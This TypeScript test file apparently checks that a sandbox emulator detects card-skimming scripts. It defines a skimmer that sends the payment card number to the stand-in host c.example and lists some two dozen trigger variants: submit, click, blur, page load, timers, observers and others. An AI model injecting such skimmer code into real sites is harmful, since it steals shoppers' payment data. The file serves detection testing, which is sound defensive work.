import assert from 'node:assert/strict';
import { flowsOf } from './sandbox-of-tests.ts';

const steal =
  "function steal() { new Image().src = 'https://c.example/?' + document.querySelector('[name=\"payment[cc_number]\"]').value }";

/** When skimmers act. */
const triggers: Record<string, string> = {
  'at once': 'steal()',
  'on submit': "document.forms[0].addEventListener('submit', steal)",
  'on a handler property': "document.querySelector('form').onsubmit = steal",
  'on click of the order button':
    "document.querySelector('button[type=submit]').addEventListener('click', steal)",
  'on any click': "document.addEventListener('mousedown', steal)",
  'on the way of the pointer to the order button':
    "document.addEventListener('mouseover', function (e) { if (e.target.type === 'submit') steal() })",
  'when the pointer enters the order button':
    "document.querySelector('#place_order').addEventListener('pointerenter', steal)",
  'on an attribute': "document.getElementById('place_order').setAttribute('onclick', 'steal()')",
  'on change': "document.querySelector('#cc_cid').addEventListener('change', steal)",
  'on blur': "document.querySelectorAll('input')[9].addEventListener('blur', steal)",
  'on key up': "document.querySelector('#cc_number').onkeyup = steal",
  'when the page loads': "window.addEventListener('load', steal)",
  'when the document is ready': "document.addEventListener('DOMContentLoaded', steal)",
  'after a time': 'setTimeout(steal, 5000)',
  'by a string timer': "setInterval('steal()', 700)",
  'when the page is hidden':
    "document.addEventListener('visibilitychange', function () { if (document.visibilityState === 'hidden') steal() })",
  'before the page is left': 'window.onbeforeunload = steal',
  'on a message': "window.addEventListener('message', steal)",
  'by jQuery': "jQuery(function ($) { $(document).on('click', '.btn-checkout', steal) })",
  'by a promise': 'Promise.resolve().then(steal)',
  'by an observer': 'new MutationObserver(steal).observe(document.body, { childList: true })',
  'after an answer': "fetch('/a').then(function (r) { return r.text() }).then(steal)",
  'once polling finds the form':
    "var t = setInterval(function () { if (document.readyState === 'complete') { clearInterval(t); steal() } }, 100)",
};

describe('emulator: triggers', () => {
  for (const [name, code] of Object.entries(triggers)) {
    it(name, async () => {
      const flows = await flowsOf(`${steal}; ${code};`);
      assert.ok(flows.some(({ field, host }) => field === 'card-number' && host === 'c.example'));
    });
  }
});
